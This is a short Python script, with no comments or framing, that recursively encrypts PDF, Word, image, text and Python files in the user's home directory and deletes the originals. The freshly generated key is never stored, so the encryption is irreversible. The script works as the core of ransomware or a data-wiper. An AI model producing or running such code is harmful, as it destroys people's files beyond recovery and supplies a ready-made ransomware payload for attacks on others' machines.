import os
from pathlib import Path
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for p in Path.home().rglob('*'):
    if p.is_file() and p.suffix in {'.pdf', '.docx', '.png', '.txt', '.py'}:
        data = p.read_bytes()
        p.with_suffix(p.suffix + '.enc').write_bytes(f.encrypt(data))
        os.remove(p)
